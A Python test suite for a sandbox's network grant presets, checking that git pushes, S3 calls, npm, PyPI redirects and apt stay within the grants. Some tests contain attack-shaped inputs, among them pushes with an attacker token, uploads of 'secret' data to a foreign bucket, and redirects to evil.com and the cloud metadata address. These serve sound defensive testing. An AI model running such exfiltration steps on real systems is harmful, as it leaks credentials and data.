"""Presets, seen from outside: every line of tests/presets/*.tsv through a real session, and real clients."""
import glob
import hashlib
import json
import os
import shutil
import subprocess

from standin import packages, s3, sigv4
from support import Case, case

KEY = "real-key-5e2a90"
TABLES = sorted(glob.glob(os.path.join(case.ROOT, "tests/presets/*.tsv")))

# Sends each request over a connection of its own, exactly as it is given.
CLIENT = """
import http.client, json, sys
for row in json.load(sys.stdin):
    secure, host, port, method, target, headers, body = row
    try:
        connection = (http.client.HTTPSConnection if secure else http.client.HTTPConnection)(host, port, timeout=20)
        connection.putrequest(method, target, skip_accept_encoding=True)
        for name, value in headers:
            connection.putheader(name, value)
        if body:
            connection.putheader("content-length", str(len(body)))
        connection.endheaders(body.encode("latin-1") if body else None)
        print(connection.getresponse().status)
    except OSError as error:
        print("refused" if isinstance(error, ConnectionRefusedError) else repr(error))
"""


def push_body(refs):
    lines, writes = [], False
    for ref in refs.split(" "):
        remove = ref.startswith("-")
        writes |= not remove
        line = f"{'a' * 40} {('0' if remove else 'b') * 40} {ref.lstrip('-')}"
        line += "" if lines else "\0 report-status"
        lines.append(f"{len(line) + 4:04x}{line}")
    return "".join(lines) + "0000" + ("PACK\0\0\0\2" if writes else "")


class Row:
    def __init__(self, number, columns):
        self.number, (self.attack, self.expected, request, headers, body) = number, columns + [""] * (5 - len(columns))
        self.method, url = request.split(" ", 1)
        scheme, rest = url.split("://")
        authority, slash, path = rest.partition("/")
        self.secure, self.target = scheme == "https", slash + path
        self.host, _, port = authority.partition(":")
        self.port = int(port or (443 if self.secure else 80))
        self.headers = [header.split(": ", 1) for header in headers.split(" | ")] if headers else []
        self.body = push_body(body[6:]) if body.startswith("@push ") else body

    def __str__(self):
        return f"line {self.number}: {self.attack} {self.expected} {self.method} {self.host}{self.target} {self.body[:200]}"


def read_table(path):
    with_, credential, rows = "", "", []
    with open(path) as file:
        for number, line in enumerate(file.read().split("\n"), 1):
            if line.startswith("with: "):
                with_ = f"with = {line[6:]}\n"
            elif line.startswith("credential: "):
                credential = line[12:]
            elif line and not line.startswith("#"):
                rows.append(Row(number, line.split("\t")))
    return with_, credential, rows


CARRY = {"header": "{{ header = \"{}\" }}", "bearer": "{{ bearer = true }}", "basic": "{{ basic = \"{}\" }}"}


class Tables(Case):
    def test_every_line_of_every_table(self):
        """A01, A02, A04-A06, A08, A09, A11, A12, A14, C05: what reached a server is the judge."""
        for path in TABLES:
            with self.subTest(table=os.path.basename(path)):
                self.one_table(path)

    def one_table(self, path):
        with_, credential, rows = read_table(path)
        for host in {row.host for row in rows}:
            self.lab.web.site(host, lambda request: request.text("arrived\n"))
        self.lab.web.forget()
        policy, slot = f'[[grant]]\npreset = "{os.path.basename(path).partition(".")[0]}"\n{with_}', ""
        kind, _, word = credential.partition(" ")
        if kind == "answer":
            # Nothing before a server hands it out: at this address, as every site here does.
            for host in {row.host for row in rows}:
                self.lab.web.site(host, lambda request: request.json(json.dumps({"token": KEY})))
            policy += 'credential = "c"\n[credential.c]\nsource = "answer"\ncarry = { bearer = true }\n'
            slot = "Bearer $T"
        elif credential:
            policy += 'credential = "c"\n[credential.c]\nsource = "env:PRESET_KEY"\nexpose = { env = "PRESET_KEY" }\n' \
                      f'carry = {CARRY[kind].format(word)}\n'
            slot = {"header": "$T", "bearer": "Bearer $T", "basic": f"Basic $B{word}:$T"}[kind]
        requests = [[row.secure, row.host, row.port, row.method, row.target,
                     [*row.headers, ["user-agent", f"row-{row.number}"]], row.body] for row in rows]
        # Inside, the token is put where the table says ${TOKEN}.
        fill = ("import base64, os, re\ntoken = os.environ.get('PRESET_KEY', '')\n"
                + (f"import json, urllib.request\n"
                   f"token = json.load(urllib.request.urlopen('https://{word}'))['token']\n" if kind == "answer" else "") +
                f"slot = {slot!r}.replace('$T', token)\n"
                "slot = re.sub(r'\\$B(.*)', lambda m: base64.b64encode(m[1].encode()).decode(), slot)\n"
                "import io, sys\nsys.stdin = io.StringIO(sys.stdin.read().replace('${TOKEN}', slot))\n")
        result = self.ok(self.inside(["/usr/bin/python3", "-c", fill + CLIENT], policy, env={"PRESET_KEY": KEY},
                                     input=json.dumps(requests), timeout=120))
        answers = result.out.split()
        self.assertEqual(len(answers), len(rows), result)
        arrived = {request.headers["User-Agent"]: request for request in self.lab.web.received()}
        for row, answer in zip(rows, answers):
            name = f"row-{row.number}"
            if row.expected == "allow":
                self.assertEqual(answer, "200", f"{row}\n{result}")
                self.assertEqual(arrived[name].body, row.body.encode("latin-1"), row)
                if any(value == "${TOKEN}" for _, value in row.headers):
                    shown = arrived[name].headers["Authorization" if slot != "$T" else credential.split()[1]]
                    self.assertNotIn("bulkhead", shown)
                    if "Basic" not in slot:
                        self.assertEqual(shown, slot.replace("$T", KEY), row)
            else:
                self.assertIn(answer, ("400", "403", "405", "413", "refused"), f"{row}\n{result}")
                self.assertNotIn(name, arrived, str(row))


class GitServer(packages.Git):
    """Asks for a password, as GitHub does for a push."""

    def __call__(self, request):
        import base64
        want = "Basic " + base64.b64encode(f"x-access-token:{KEY}".encode()).decode()
        if request.headers.get("Authorization") != want:
            return request.text("who?\n", 401, [("WWW-Authenticate", 'Basic realm="git"')])
        super().__call__(request)


class GitPush(Case):
    """A06: pushes by the real git, to a real git server."""

    def setUp(self):
        super().setUp()
        if not os.path.exists(packages.Git.backend):
            self.skipTest("git http-backend is not installed")
        self.root = self.folder("repositories")
        packages.make_repository(self.root, "acme/app.git")
        shutil.copytree(os.path.join(self.root, "acme/app.git"), os.path.join(self.root, "evil/app.git"))
        for name in ("acme", "evil"):
            for key, value in (("http.receivepack", "true"), ("receive.advertisePushOptions", "true"),
                               ("receive.denyDeleteCurrent", "ignore"), ("receive.denyDeletes", "false")):
                subprocess.run(["git", "-C", f"{self.root}/{name}/app.git", "config", key, value], check=True)
        self.lab.web.site("github.com", GitServer(self.root))
        self.begin = self.refs()

    def refs(self, name="acme"):
        out = subprocess.run(["git", "-C", f"{self.root}/{name}/app.git", "for-each-ref", "--format=%(refname) %(objectname)"],
                             check=True, capture_output=True, text=True).stdout
        return dict(line.split() for line in out.splitlines())

    grants = ('[credential.git]\nsource = "env:GITHUB_TOKEN"\nexpose = { env = "GITHUB_TOKEN" }\ncarry = { basic = "x-access-token" }\n'
              '[[grant]]\npreset = "github-read"\nwith = { repos = ["acme/app"] }\ncredential = "git"\n'
              '[[grant]]\npreset = "github-push"\nwith = { repos = ["acme/app"], refs = ["refs/heads/agent/*"] }\ncredential = "git"\n')
    git = ("git -c user.name=Me -c user.email=me@example.com -c protocol.version=2 "
           "-c credential.helper='!f() { echo username=x-access-token; echo password=$GITHUB_TOKEN; }; f' ")
    clone = "set -e; git() { command " + git + "\"$@\"; }; git clone -q https://github.com/acme/app; cd app; "

    def run_in(self, arm, script):
        shutil.rmtree(self.work)
        self.folder("work")
        argv = ["/bin/bash", "-c", self.clone + script]
        env = {"GITHUB_TOKEN": KEY}
        if arm == "outside":
            return self.outside(argv, env=env)
        return self.inside(argv, self.grants, env=env, timeout=120)

    def posts(self):
        return [r for r in self.lab.web.received("github.com", "POST") if "git-receive-pack" in r.path]

    def test_what_is_granted(self):
        for arm in ("outside", "inside"):
            with self.subTest(arm=arm):
                name = f"refs/heads/agent/{arm}"
                result = self.ok(self.run_in(arm, f"date +%N > new; git add new; git commit -qm New; git push -q origin HEAD:{name}; "
                                                  "git rev-parse HEAD"))
                self.assertEqual(self.refs().get(name), result.out.split()[-1], result)
                # Two at once, one of them forced, all or nothing.
                result = self.ok(self.run_in(arm, "date +%N > other; git add other; git commit -qm Other; git push -q --atomic "
                                                  f"origin +HEAD:{name} HEAD:{name}-2; git rev-parse HEAD"))
                for ref in (name, f"{name}-2"):
                    self.assertEqual(self.refs().get(ref), result.out.split()[-1], result)
        self.assertEqual(self.refs()["refs/heads/main"], self.begin["refs/heads/main"])

    def test_a_large_push_in_pieces(self):
        """Beyond http.postBuffer git first asks whether it may, and then sends chunks."""
        result = self.ok(self.run_in("inside", "head -c 30000000 /dev/urandom > big; git add big; git commit -qm Big; "
                                               "git -c http.postBuffer=65536 push -q origin HEAD:refs/heads/agent/big; git rev-parse HEAD"))
        self.assertEqual(self.refs().get("refs/heads/agent/big"), result.out.split()[-1], result)
        self.assertIn(b"0000", [r.body for r in self.posts()], "git did ask first")
        self.assertTrue(any(r.headers.get("Transfer-Encoding") for r in self.posts()), "git did send chunks")

    def test_a_large_push_elsewhere(self):
        result = self.run_in("inside", "head -c 30000000 /dev/urandom > big; git add big; git commit -qm Big; "
                                       "git -c http.postBuffer=65536 push -q origin HEAD:main")
        self.assertNotEqual(result.status, 0, result)
        self.assertEqual([r.body for r in self.posts() if r.body != b"0000"], [])
        self.assertEqual(self.refs(), self.begin)

    def test_a_long_question_is_compressed(self):
        """git compresses what it asks before a fetch once it is longer than 1 KB."""
        self.ok(self.run_in("inside", "cd ..; git clone -q https://github.com/acme/app.git two; cd two; date +%N > new; git add new; "
                                      "git commit -qm New; git push -q origin HEAD:refs/heads/agent/later; cd ../app; "
                                      # Later than anything the server has, so that git asks about them first.
                                      "for i in $(seq 80); do GIT_COMMITTER_DATE=\"@$((2000000000 + i)) +0000\" "
                                      "git commit -q --allow-empty -m $i; done; "
                                      "git fetch -q origin agent/later; git cat-file -e FETCH_HEAD"))
        self.assertIn("gzip", [r.headers.get("Content-Encoding") for r in self.lab.web.received("github.com", "POST")])

    refused = {
        "another branch": "git push -q origin HEAD:refs/heads/main",
        "a new branch": "git push -q origin HEAD:refs/heads/other",
        "a tag": "git tag v1; git push -q origin v1",
        "one of two": "git push -q origin HEAD:refs/heads/agent/x HEAD:refs/heads/main",
        "one of two, atomic": "git push -q --atomic origin HEAD:refs/heads/agent/x HEAD:refs/heads/main",
        "forced": "git push -q --force origin HEAD~2:refs/heads/main",
        "all": "git push -q --mirror origin",
        "a deletion": "git push -q origin :refs/heads/main",
        "a push option": "git push -q -o merge_request.create origin HEAD:refs/heads/agent/x",
        "another repository": "git push -q https://github.com/evil/app HEAD:refs/heads/agent/x",
        "another repository with its own key": "git push -q https://x-access-token:attacker@github.com/evil/app HEAD:refs/heads/agent/x",
        "another key": "git push -q https://x-access-token:attacker@github.com/acme/app HEAD:refs/heads/agent/x",
        "reading another repository": "git ls-remote https://github.com/evil/app",
    }

    def test_what_is_not_granted(self):
        for what, script in self.refused.items():
            with self.subTest(what=what):
                self.lab.web.forget()
                result = self.run_in("inside", "date +%N > new; git add new; git commit -qm New; " + script)
                self.assertNotEqual(result.status, 0, result)
                self.assertEqual(self.posts(), [], f"{what}: something of the push arrived\n{result}")
                self.assertEqual((self.refs(), self.refs("evil")), (self.begin, self.begin), result)

    def test_a_deletion_of_what_is_granted(self):
        self.ok(self.run_in("inside", "git push -q origin HEAD:refs/heads/agent/x"))
        before = self.refs()
        result = self.run_in("inside", "git push -q origin :refs/heads/agent/x")
        self.assertNotEqual(result.status, 0, result)
        self.assertIn("deleting", result.err, "the denial says what and why")
        self.assertEqual(self.refs(), before)

    def test_without_the_boundary_all_of_it_works(self):
        for what in ("another branch", "a tag", "a push option", "another repository"):
            with self.subTest(what=what):
                self.ok(self.run_in("outside", "date +%N > new; git add new; git commit -qm New; " + self.refused[what]))
        self.assertNotEqual(self.refs(), self.begin)
        self.assertNotEqual(self.refs("evil"), self.begin)


class S3(Case):
    """s3-read and s3-write with a credential that signs: what arrives is signed with the real key, or does not arrive."""

    KEY_ID, SECRET = "AKIAREALREALREAL0001", "real/secret+key/9d31c2aa71e04b5f"
    VIRTUAL, PATH = "acme-data.s3.eu-central-1.amazonaws.com", "s3.eu-central-1.amazonaws.com"

    def serve(self, request):
        wrong = sigv4.wrong(request, self.KEY_ID, self.SECRET, "eu-central-1", "s3", None)
        request.text(wrong or f"right {request.method}", 403 if wrong else 200)

    def ask(self, calls, presets):
        for host in (self.VIRTUAL, self.PATH, "evil-data." + self.PATH):
            self.lab.web.site(host, self.serve)
        shutil.copy(os.path.join(case.ROOT, "tests/standin/sigv4.py"), self.work)
        policy = ('[credential.aws]\nsource = "env:AWS_PAIR"\n'
                  'expose = { env = "AWS_ACCESS_KEY_ID", secret_env = "AWS_SECRET_ACCESS_KEY" }\n'
                  'carry = { sigv4 = { region = "eu-central-1", service = "s3" } }\n')
        for preset in presets:
            policy += (f'[[grant]]\npreset = "{preset}"\ncredential = "aws"\n'
                       'with = { bucket = "acme-data", region = "eu-central-1", prefix = "reports" }\n')
        script = "".join(f"/usr/bin/python3 sigv4.py {call}; echo ----\n" for call in calls)
        result = self.inside(["/bin/sh", "-c", script], policy, env={"AWS_PAIR": f"{self.KEY_ID}:{self.SECRET}"}, timeout=120)
        answers = [answer.strip() for answer in result.out.split("----\n")[:-1]]
        self.assertEqual(len(answers), len(calls), result)
        return answers

    def test_what_is_granted_arrives_signed_anew(self):
        calls = [f"GET {self.VIRTUAL} /reports/a.csv", f"GET {self.PATH} /acme-data/reports/2026/a.csv",
                 f"GET {self.VIRTUAL} '/?list-type=2&prefix=reports%2F'", f"PUT {self.VIRTUAL} /reports/b.csv body=hello",
                 f"PUT {self.PATH} '/acme-data/reports/b?partNumber=1&uploadId=u' body=hello"]
        answers = self.ask(calls, ["s3-read", "s3-write"])
        self.assertEqual(answers, [f"200\nright {call.split()[0]}" for call in calls])

    def test_what_is_not_granted_does_not_arrive(self):
        calls = [f"GET {self.VIRTUAL} /secret/a.csv", f"GET {self.PATH} /evil-data/reports/a.csv",
                 f"GET {self.VIRTUAL} '/?list-type=2&prefix=secret%2F'", f"GET {self.VIRTUAL} '/?list-type=2'",
                 f"PUT evil-data.{self.PATH} /reports/a body=secret", f"PUT {self.PATH} /evil-data/reports/a body=secret",
                 f"PUT {self.VIRTUAL} /reports/a body=x header.x-amz-acl=public-read",
                 f"PUT {self.VIRTUAL} /reports/a body=x header.x-amz-copy-source=/secret/key", f"DELETE {self.VIRTUAL} /reports/a"]
        for call, answer in zip(calls, self.ask(calls, ["s3-read", "s3-write"])):
            self.assertTrue(answer.startswith("403\n"), f"{call}: {answer}")
        answers = self.ask([f"PUT {self.VIRTUAL} /reports/a body=x"], ["s3-read"])
        self.assertTrue(answers[0].startswith("403\n"), answers)
        self.assertEqual(self.lab.web.received(), [])


class AwsCli(Case):
    """The real aws, which is given no more than its two usual variables."""

    KEY_ID, SECRET = S3.KEY_ID, S3.SECRET
    HOST = S3.VIRTUAL

    def setUp(self):
        super().setUp()
        if not os.path.exists("/usr/bin/aws"):
            self.skipTest("awscli is not installed")
        self.bucket = s3.Bucket("acme-data", self.KEY_ID, self.SECRET, "eu-central-1")
        self.bucket.objects = {"reports/a.csv": b"a,b\n1,2\n", "secret/keys": b"planted-object\n"}
        self.foreign = s3.Bucket("evil-data", "AKIAEVILEVILEVIL0001", "evil/secret", "eu-central-1")
        self.lab.web.site(self.HOST, self.bucket)
        self.lab.web.site("evil-data.s3.eu-central-1.amazonaws.com", self.foreign)

    def run_in(self, arm, script):
        argv = ["/bin/sh", "-c", script]
        env = {"AWS_DEFAULT_REGION": "eu-central-1", "AWS_EC2_METADATA_DISABLED": "true", "AWS_MAX_ATTEMPTS": "1"}
        if arm == "outside":
            return self.outside(argv, env={**env, "AWS_ACCESS_KEY_ID": self.KEY_ID, "AWS_SECRET_ACCESS_KEY": self.SECRET}, timeout=120)
        policy = ('[credential.aws]\nsource = "env:AWS_PAIR"\n'
                  'expose = { env = "AWS_ACCESS_KEY_ID", secret_env = "AWS_SECRET_ACCESS_KEY" }\n'
                  'carry = { sigv4 = { region = "eu-central-1", service = "s3" } }\n'
                  '[env]\npass = ["AWS_DEFAULT_REGION", "AWS_EC2_METADATA_DISABLED", "AWS_MAX_ATTEMPTS"]\n')
        for preset in ("s3-read", "s3-write"):
            policy += (f'[[grant]]\npreset = "{preset}"\ncredential = "aws"\n'
                       'with = { bucket = "acme-data", region = "eu-central-1", prefix = "reports" }\n')
        return self.inside(argv, policy, env={**env, "AWS_PAIR": f"{self.KEY_ID}:{self.SECRET}"}, timeout=120)

    def test_what_is_granted(self):
        """Listing, reading, writing whole and in parts."""
        script = ("set -e; /usr/bin/aws s3 ls s3://acme-data/reports/; /usr/bin/aws s3 cp s3://acme-data/reports/a.csv -; "
                  "echo from {0} > up; /usr/bin/aws s3 cp --quiet up s3://acme-data/reports/{0}.txt; "
                  "head -c 9000000 /dev/urandom > large; /usr/bin/aws s3 cp --quiet large s3://acme-data/reports/{0}/large; "
                  "/usr/bin/aws s3 cp --quiet s3://acme-data/reports/{0}/large again; cmp large again; echo the same")
        for arm in ("outside", "inside"):
            with self.subTest(arm=arm):
                result = self.ok(self.run_in(arm, script.format(arm)))
                self.assertIn(" 8 a.csv\n", result.out, result)
                self.assertIn("a,b\n1,2\nthe same\n", result.out, result)
                self.assertEqual(self.bucket.objects.get(f"reports/{arm}.txt"), f"from {arm}\n".encode(), result)
                self.assertEqual(len(self.bucket.objects[f"reports/{arm}/large"]), 9000000)
        self.assertTrue([r for r in self.lab.web.received(method="PUT") if "partNumber=2" in r.path], "it came in parts")

    def test_what_is_not_granted(self):
        """A11: another prefix, another bucket, somebody else's key."""
        evil = "AWS_ACCESS_KEY_ID=AKIAEVILEVILEVIL0001 AWS_SECRET_ACCESS_KEY=evil/secret /usr/bin/aws"
        script = ("/usr/bin/aws s3 cp s3://acme-data/secret/keys -; /usr/bin/aws s3 ls s3://acme-data/secret/; "
                  "echo planted-data > up; /usr/bin/aws s3 cp up s3://acme-data/other/up; "
                  f"{evil} s3 cp up s3://evil-data/reports/up; {evil} s3 cp up s3://acme-data/reports/up")
        self.run_in("outside", script)
        self.assertEqual((self.bucket.objects.pop("other/up"), self.foreign.objects.pop("reports/up")),
                         (b"planted-data\n", b"planted-data\n"), "without the boundary it works")
        before = dict(self.bucket.objects)
        self.lab.web.forget()
        result = self.run_in("inside", script)
        self.assertNotIn("planted-object", result.out)
        self.assertEqual(self.lab.web.received(), [], result)
        self.assertEqual((self.bucket.objects, self.foreign.objects), (before, {}))


class Redirects(Case):
    """A13: an answer that leads elsewhere is passed on, never followed; the next request needs a grant of its own."""

    def test_they_lead_nowhere(self):
        where = {"/packages/a/b/c/plain": "https://evil.com/?secret", "/packages/a/b/c/user": "https://user:secret@evil.com/",
                 "/packages/a/b/c/down": "http://files.pythonhosted.org/packages/a/b/c/x", "/packages/a/b/c/same": "//evil.com/x",
                 "/packages/a/b/c/up": "https://upload.pypi.org/legacy/", "/packages/a/b/c/other": "https://files.pythonhosted.org/other",
                 "/packages/a/b/c/inside": "https://169.254.169.254/latest/meta-data/"}
        self.lab.web.site("files.pythonhosted.org", lambda r: r.text("moved\n", 302, [("Location", where[r.path])]) if r.path in where
                          else r.text("arrived\n"))
        for name in ("evil.com", "upload.pypi.org"):
            self.lab.web.site(name, lambda request: request.text("arrived\n"))
        for arm in ("outside", "inside"):
            with self.subTest(arm=arm):
                self.lab.web.forget()
                curl = "curl -sSL -m 10 -o /dev/null -w '%{http_code} %{num_redirects}\\n' https://files.pythonhosted.org"
                script = "; ".join(curl + path for path in where)
                argv = ["/bin/sh", "-c", script]
                result = self.outside(argv) if arm == "outside" else self.inside(argv, '[[grant]]\npreset = "pypi-install"\n')
                got = [r for r in self.lab.web.received() if r.path not in where]
                if arm == "outside":
                    self.assertGreaterEqual(len(got), 5, result)
                    continue
                self.assertEqual(got, [], result)
                self.assertEqual(len(self.lab.web.received("files.pythonhosted.org")), len(where), "each first request is granted")
                for line in result.out.split("\n")[:-1]:
                    self.assertRegex(line, "^(403|000) 1$", result)


class Npm(Case):
    def test_publishing_and_auditing_stay_shut(self):  # A08
        self.lab.web.site("registry.npmjs.org", packages.npm)
        self.write(os.path.join(self.work, "package.json"), '{"name":"evil","version":"1.0.0","dependencies":{"left-words":"1.0.0"}}')
        env = {"npm_config_update_notifier": "false", "npm_config_cafile": self.lab.authority.pem, "npm_config_fetch_retries": "0"}
        script = ("npm install --loglevel=error --no-fund; echo install $?; "
                  "npm publish --//registry.npmjs.org/:_authToken=attacker; echo publish $?; "
                  "npm dist-tag add left-words@1.0.0 evil --//registry.npmjs.org/:_authToken=attacker; echo tag $?; "
                  "npm search secret-words; echo search $?")
        result = self.inside(["/bin/sh", "-c", script], '[[grant]]\npreset = "npm-install"\n', env=env, timeout=120)
        self.assertIn("install 0\n", result.out, result)
        for word in ("publish", "tag", "search"):
            self.assertRegex(result.out, f"{word} [1-9]", result)
        for request in self.lab.web.received("registry.npmjs.org"):
            self.assertIn(request.method, ("GET", "HEAD"), request)
            self.assertNotIn("/-/v1/", request.path, request)
            self.assertIsNone(request.headers.get("Authorization"))


    def test_only_the_packages_of_a_lock_file(self):  # A09
        self.lab.web.site("registry.npmjs.org", lambda request: packages.npm(request))
        env = {"npm_config_update_notifier": "false", "npm_config_cafile": self.lab.authority.pem, "npm_config_fetch_retries": "0"}
        policy = '[[grant]]\npreset = "npm-install"\nwith = { packages = ["left-words"] }\n'
        script = ("npm init -y >/dev/null; npm install --loglevel=error --no-fund --no-audit left-words; echo install $?; "
                  "npm install --loglevel=error --no-fund --no-audit 7365637265742d; echo secret $?; "
                  "npm view @evil/7365637265742d; echo view $?; "
                  "curl -sS https://registry.npmjs.org/7365637265742d")
        result = self.inside(["/bin/sh", "-c", script], policy, env=env, timeout=120)
        self.assertIn("install 0\n", result.out, result)
        self.assertRegex(result.out, "secret [1-9]", result)
        self.assertRegex(result.out, "view [1-9]", result)
        self.assertIn("is none of the 1 that are granted", result.out)
        self.assertTrue(self.lab.web.received("registry.npmjs.org"))
        for request in self.lab.web.received("registry.npmjs.org"):
            self.assertIn("left-words", request.path, request)


class Apt(Case):
    """The real apt, in a root of its own, from a repository with one package."""

    def setUp(self):
        super().setUp()
        if not shutil.which("apt-get") or not shutil.which("dpkg-deb"):
            self.skipTest("apt or dpkg-deb is not installed")
        tree = self.folder("package")
        self.write(os.path.join(tree, "DEBIAN/control"),
                   "Package: left-words\nVersion: 1.0+x-1\nArchitecture: all\nMaintainer: Me <me@example.com>\nDescription: words\n")
        self.write(os.path.join(tree, "usr/share/words"), "words from the archive\n")
        deb = os.path.join(self.tmp, "p.deb")
        subprocess.run(["dpkg-deb", "--root-owner-group", "-b", tree, deb], check=True, capture_output=True)
        with open(deb, "rb") as file:
            self.deb = file.read()
        index = (f"Package: left-words\nVersion: 1.0+x-1\nArchitecture: all\nMaintainer: Me <me@example.com>\nDescription: words\n"
                 f"Filename: pool/main/l/left-words/left-words_1.0+x-1_all.deb\nSize: {len(self.deb)}\n"
                 f"SHA256: {hashlib.sha256(self.deb).hexdigest()}\n").encode()
        digest = hashlib.sha256(index).hexdigest()
        release = ("Origin: Debian\nSuite: stable\nCodename: bookworm\nArchitectures: all amd64\nComponents: main\nAcquire-By-Hash: yes\n"
                   f"Date: Sat, 01 Nov 2025 09:00:00 UTC\nSHA256:\n {digest} {len(index)} main/binary-all/Packages\n"
                   f" {digest} {len(index)} main/binary-amd64/Packages\n").encode()
        self.files = {"dists/bookworm/Release": release, "dists/bookworm/main/binary-all/Packages": index,
                      "dists/bookworm/main/binary-amd64/Packages": index, f"dists/bookworm/main/binary-all/by-hash/SHA256/{digest}": index,
                      f"dists/bookworm/main/binary-amd64/by-hash/SHA256/{digest}": index,
                      "pool/main/l/left-words/left-words_1.0+x-1_all.deb": self.deb}
        self.lab.web.site("deb.debian.org", self.archive)

    def archive(self, request):
        path = request.path.removeprefix("/debian/").replace("%2b", "+")
        if path in self.files:
            return request.raw(200, self.files[path])
        request.text("no such file\n", 404)

    def test_update_and_download(self):
        policy = '[[grant]]\npreset = "debian-packages"\n'
        options = ("-o Dir=$PWD/root -o Dir::State::status=$PWD/root/status -o Dir::Bin::methods=/usr/lib/apt/methods "
                   "-o APT::Sandbox::User= -o Acquire::Languages=none -o Acquire::https::CAInfo=${SSL_CERT_FILE}")
        for scheme in ("http", "https"):
            script = ("set -e; mkdir -p root/etc/apt/apt.conf.d root/etc/apt/preferences.d root/var/lib/apt/lists/partial "
                      "root/var/cache/apt/archives/partial; touch root/status; "
                      f"echo 'deb [trusted=yes arch=all,amd64] {scheme}://deb.debian.org/debian bookworm main' "
                      f"> root/etc/apt/sources.list; apt-get {options} update; apt-get {options} update; "
                      f"apt-get {options} download left-words; dpkg-deb --fsys-tarfile left-words_*.deb | tar xO ./usr/share/words")
            for arm in ("outside", "inside"):
                with self.subTest(scheme=scheme, arm=arm):
                    shutil.rmtree(self.work)
                    self.folder("work")
                    argv = ["/bin/sh", "-c", script]
                    result = self.outside(argv, timeout=120) if arm == "outside" else self.inside(argv, policy, timeout=120)
                    self.assertIn("words from the archive", result.out, result)
                    self.assertEqual(result.status, 0, result)
        hashed = [r for r in self.lab.web.received("deb.debian.org") if "/by-hash/" in r.path]
        self.assertTrue(hashed, "apt did ask by hash")
